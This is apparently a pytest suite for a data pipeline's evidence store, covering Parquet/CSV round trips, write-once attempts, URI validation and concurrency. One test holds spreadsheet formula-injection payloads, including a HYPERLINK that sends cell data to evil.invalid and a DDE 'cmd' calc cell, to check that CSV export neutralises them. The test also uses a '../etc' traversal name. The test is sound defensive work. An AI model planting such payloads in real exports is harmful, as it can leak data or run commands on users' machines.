"""EvidenceStore tables: round trips, write-once attempts, determinism, CSV format (local and S3)."""

from __future__ import annotations

import csv
import io
import os

import pandas as pd
import pyarrow.parquet as pq
import pytest

from aircall_pipeline.evidence.store import (
    EvidenceStore,
    EvidenceStoreError,
    attempt_name,
    parse_attempt_name,
)
from aircall_pipeline_tests.evidence.conftest import BIG_ID, users_frame

DAY = "2026-03-14"


def test_attempt_names():
    assert attempt_name("users", "parquet", 1) == "users.parquet"
    assert attempt_name("users", "csv", 3) == "users.attempt-3.csv"
    assert parse_attempt_name("team_members.attempt-12.parquet") == ("team_members", 12, "parquet")
    assert parse_attempt_name("checks.json") == ("checks", 1, "json")
    assert parse_attempt_name(".users.parquet.tmp-1") is None


def test_round_trip(store: EvidenceStore):
    df = users_frame()
    artifacts = store.write_table("users", DAY, df)
    assert [a.path for a in artifacts] == [
        f"aircall/users/date={DAY}/users.parquet",
        f"aircall/users/date={DAY}/users.csv",
    ]
    assert all(a.rows == 2 and a.bytes > 0 and len(a.sha256) == 64 for a in artifacts)
    back = store.read_table("users", DAY)
    pd.testing.assert_frame_equal(back, df)
    assert back["user_id"].tolist() == [BIG_ID, BIG_ID + 1]
    assert str(back["created_at"].dtype) == "datetime64[us, UTC]"
    assert store.read_table("users", DAY, columns=["email"]).columns.tolist() == ["email"]
    assert store.dates("users") == [DAY]
    assert store.dates("teams") == []
    # The manifest's view of the stored files agrees with what write_table reported.
    assert [store.stored_artifact(a.path) for a in artifacts] == artifacts


def test_identical_rerun_is_a_no_op(store: EvidenceStore):
    first = store.write_table("users", DAY, users_frame())
    again = store.write_table("users", DAY, users_frame())
    assert again == first
    assert store.backend.list(f"aircall/users/date={DAY}") == sorted(a.path for a in first)


def test_changed_rerun_writes_a_new_attempt_and_keeps_the_first(store: EvidenceStore):
    first = store.write_table("users", DAY, users_frame())
    first_bytes = {a.path: store.backend.get(a.path) for a in first}
    second = store.write_table("users", DAY, users_frame(("Ada", "Grace", "Linus")))
    assert [a.path for a in second] == [
        f"aircall/users/date={DAY}/users.attempt-2.parquet",
        f"aircall/users/date={DAY}/users.attempt-2.csv",
    ]
    assert {a.path: store.backend.get(a.path) for a in first} == first_bytes
    assert len(store.read_table("users", DAY)) == 3  # the newest attempt is what is read
    third = store.write_table("users", DAY, users_frame(("Ada",)))
    assert third[0].path.endswith("users.attempt-3.parquet")
    # Going back to earlier content is still a new attempt: history is never rewritten.
    fourth = store.write_table("users", DAY, users_frame())
    assert fourth[0].path.endswith("users.attempt-4.parquet")
    assert fourth[0].sha256 == first[0].sha256


def test_interrupted_attempt_is_completed_not_duplicated(store: EvidenceStore):
    """A crash between the Parquet and the CSV leaves an incomplete attempt: not readable as evidence;
    the rerun with the same content adds the missing CSV to it."""
    artifacts = store.write_table("users", DAY, users_frame())
    # The state a crash after the first file leaves behind, on the next day.
    parquet = store.backend.get(artifacts[0].path)
    assert store.backend.put_if_absent("aircall/users/date=2026-03-15/users.parquet", parquet)
    with pytest.raises(EvidenceStoreError, match="no users evidence for 2026-03-15"):
        store.read_table("users", "2026-03-15")
    assert store.dates("users") == [DAY]
    again = store.write_table("users", "2026-03-15", users_frame())
    assert [a.path.rsplit("/", 1)[1] for a in again] == ["users.parquet", "users.csv"]
    assert store.dates("users") == [DAY, "2026-03-15"]


def test_parquet_is_deterministic_and_plain(local_store: EvidenceStore):
    a = local_store.write_table("users", DAY, users_frame())
    b = local_store.write_table("users", "2026-03-15", users_frame())
    assert [x.sha256 for x in a] == [x.sha256 for x in b]
    meta = pq.read_metadata(local_store.full_uri(a[0].path))
    assert meta.schema.to_arrow_schema().names == list(users_frame().columns)  # no index column


def test_csv_timestamps_iso_utc_and_big_ids(store: EvidenceStore):
    df = users_frame()
    df["created_at"] = df["created_at"].dt.tz_convert("Europe/Paris")  # stored as UTC regardless
    df["ended_at"] = pd.to_datetime(["2026-03-14T10:00:00.250Z", None], utc=True, format="ISO8601")
    artifacts = store.write_table("calls", DAY, df)
    text = store.backend.get(artifacts[1].path).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["user_id"] == str(BIG_ID)
    assert rows[0]["created_at"] == "2025-01-15T08:30:00Z"
    assert rows[0]["ended_at"] == "2026-03-14T10:00:00.250000Z"
    assert rows[1]["ended_at"] == "" and rows[0]["default_number_id"] == ""
    assert rows[1]["default_number_id"] == "11"
    assert rows[0]["available"] == "true"


def test_csv_quotes_commas_quotes_and_newlines(local_store: EvidenceStore):
    df = pd.DataFrame({"name": ['O"Brien, Jr.\nsecond line', "Zoë ☎"], "user_id": [1, 2]})
    artifacts = local_store.write_table("users", DAY, df)
    text = local_store.backend.get(artifacts[1].path).decode("utf-8")
    assert [r["name"] for r in csv.DictReader(io.StringIO(text))] == df["name"].tolist()
    assert artifacts[1].rows == 2 and local_store.stored_artifact(artifacts[1].path).rows == 2


HOSTILE_CELLS = ('=HYPERLINK("https://evil.invalid/?q="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
                 "-2+3", "\tTAB", "\r=1+1\nsecond line")


def test_csv_neutralises_formula_cells_and_parquet_keeps_them(local_store: EvidenceStore):
    n = len(HOSTILE_CELLS) + 1
    df = pd.DataFrame({
        "name": [*HOSTILE_CELLS, "Ada"],
        "team": pd.Categorical(["=1+1"] * (n - 1) + ["Sales"]),  # dictionary-encoded text
        "tag_names": [["@x"]] * n,  # a column written as its Python text
        "delta": [-5] * n,  # numbers are not text: a negative number stays a number
        "share": [-0.5] * n,
    })
    artifacts = local_store.write_table("users", DAY, df)
    text = local_store.backend.get(artifacts[1].path).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["name"] for r in rows] == [f"'{v}" for v in HOSTILE_CELLS] + ["Ada"]
    assert {r["team"] for r in rows} == {"'=1+1", "Sales"}
    assert {r["delta"] for r in rows} == {"-5"} and {r["share"] for r in rows} == {"-0.5"}
    formula_start = ("=", "+", "-", "@", "\t", "\r")
    text_cells = [r[c] for r in rows for c in ("name", "team", "tag_names")]
    assert not any(cell.startswith(formula_start) for cell in text_cells)
    # The exact values stay in Parquet, and the manifest's count of CSV rows is unchanged.
    assert local_store.read_table("users", DAY)["name"].tolist() == [*HOSTILE_CELLS, "Ada"]
    assert artifacts[1].rows == n and local_store.stored_artifact(artifacts[1].path).rows == n


def test_empty_frame_round_trips(store: EvidenceStore):
    df = users_frame().iloc[0:0]
    artifacts = store.write_table("users", DAY, df)
    assert [a.rows for a in artifacts] == [0, 0]
    assert store.read_table("users", DAY).columns.tolist() == df.columns.tolist()


@pytest.mark.parametrize(
    "table, day, words",
    [
        ("Users", DAY, "table name"),
        ("../etc", DAY, "table name"),
        ("reports", DAY, "table name"),
        ("users", "2026-3-14", "YYYY-MM-DD"),
        ("users", "2026-03-14-10:00", "YYYY-MM-DD"),
    ],
)
def test_bad_names_are_refused(local_store, table, day, words):
    with pytest.raises(EvidenceStoreError, match=words):
        local_store.write_table(table, day, users_frame())


def test_local_files_are_read_only_and_never_replaced(local_store: EvidenceStore):
    artifacts = local_store.write_table("users", DAY, users_frame())
    import os
    import stat

    path = local_store.full_uri(artifacts[0].path)
    assert not os.stat(path).st_mode & (stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH)
    assert local_store.backend.put_if_absent(artifacts[0].path, b"other") is False
    assert local_store.stored_artifact(artifacts[0].path) == artifacts[0]


def test_from_uri_forms(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert EvidenceStore.from_uri("./evidence").uri == str(tmp_path / "evidence")
    assert EvidenceStore.from_uri(f"file://{tmp_path}/ev").uri == str(tmp_path / "ev")
    s3 = EvidenceStore.from_uri("s3://my-bucket/a/b/", s3_client=object())
    assert s3.uri == "s3://my-bucket/a/b"
    assert s3.full_uri("aircall/x") == "s3://my-bucket/a/b/aircall/x"
    assert EvidenceStore.from_uri("s3://my-bucket", s3_client=object()).full_uri("k") == "s3://my-bucket/k"


@pytest.mark.parametrize(
    "uri, words",
    [
        ("", "EVIDENCE_URI is empty"),
        ("s3://", "does not name a valid S3 bucket"),
        ("s3://Upper_Case/x", "does not name a valid S3 bucket"),
        ("s3://ab/x", "does not name a valid S3 bucket"),
        ("s3://key:secret@bucket/x", "does not name a valid S3 bucket"),
        ("gs://bucket/x", "scheme gs:// is not supported"),
        ("s3://bucket/a/../b", "'..'"),
    ],
)
def test_invalid_uris(uri, words):
    with pytest.raises(EvidenceStoreError, match=words) as info:
        EvidenceStore.from_uri(uri, s3_client=object())
    assert info.value.kind == "invalid_uri"
    assert "secret" not in str(info.value)


def test_uri_that_is_a_file_is_refused(tmp_path):
    target = tmp_path / "evidence"
    target.write_text("not a folder")
    with pytest.raises(EvidenceStoreError, match="is a file, not a folder"):
        EvidenceStore.from_uri(target)


def test_big_s3_objects_are_read_by_byte_ranges(s3_store: EvidenceStore, monkeypatch):
    import aircall_pipeline.evidence.objects as backends_module

    df = pd.DataFrame({"call_id": range(50_000), "user_id": [i % 97 for i in range(50_000)],
                       "note": ["x" * 40] * 50_000})
    s3_store.write_table("calls", DAY, df)
    monkeypatch.setattr(backends_module, "WHOLE_OBJECT_LIMIT", 1024)
    ranges = []
    original = s3_store.backend._get_object

    def spy(key, **extra):
        ranges.append(extra.get("Range"))
        return original(key, **extra)

    monkeypatch.setattr(s3_store.backend, "_get_object", spy)
    back = s3_store.read_table("calls", DAY, columns=["user_id"])
    assert back["user_id"].tolist() == df["user_id"].tolist()
    assert ranges and all(r and r.startswith("bytes=") for r in ranges)  # never the whole object


def test_csv_batches_share_one_timestamp_format(local_store: EvidenceStore, monkeypatch):
    import aircall_pipeline.evidence.formats as formats_module

    monkeypatch.setattr(formats_module, "CSV_BATCH_ROWS", 2)
    stamps = ["2026-03-14T10:00:00Z"] * 4 + ["2026-03-14T10:00:00.5Z"]
    df = pd.DataFrame({"at": pd.to_datetime(stamps, utc=True, format="ISO8601"), "n": range(5)})
    artifacts = local_store.write_table("calls", DAY, df)
    rows = list(csv.DictReader(io.StringIO(local_store.backend.get(artifacts[1].path).decode())))
    assert [r["at"] for r in rows] == ["2026-03-14T10:00:00.000000Z"] * 4 + ["2026-03-14T10:00:00.500000Z"]
    assert artifacts[1].rows == 5 == local_store.stored_artifact(artifacts[1].path).rows
    assert len(local_store.read_table("calls", DAY)) == 5


def test_concurrent_writers_never_overwrite_each_other(store: EvidenceStore):
    from concurrent.futures import ThreadPoolExecutor

    frames = [users_frame((f"writer{i}", "Grace")) for i in range(6)]
    with ThreadPoolExecutor(max_workers=6) as pool:
        results = list(pool.map(lambda df: store.write_table("users", DAY, df), frames))
    paths = sorted(a[0].path for a in results)
    assert len(set(paths)) == 6  # six different contents, six attempts
    for artifacts, df in zip(results, frames, strict=True):
        assert store.stored_artifact(artifacts[0].path) == artifacts[0]
        assert store.stored_artifact(artifacts[1].path) == artifacts[1]
        with store.backend.open_seekable(artifacts[0].path) as fh:
            pd.testing.assert_frame_equal(pd.read_parquet(fh), df)  # each writer's own content


@pytest.mark.skipif(os.geteuid() == 0, reason="root ignores file permissions")
def test_read_only_folder_is_access_denied(tmp_path):
    root = tmp_path / "evidence"
    root.mkdir()
    root.chmod(0o555)
    try:
        with pytest.raises(EvidenceStoreError, match="permission denied") as info:
            EvidenceStore.from_uri(root).write_table("users", DAY, users_frame())
        assert info.value.kind == "access_denied"
    finally:
        root.chmod(0o755)
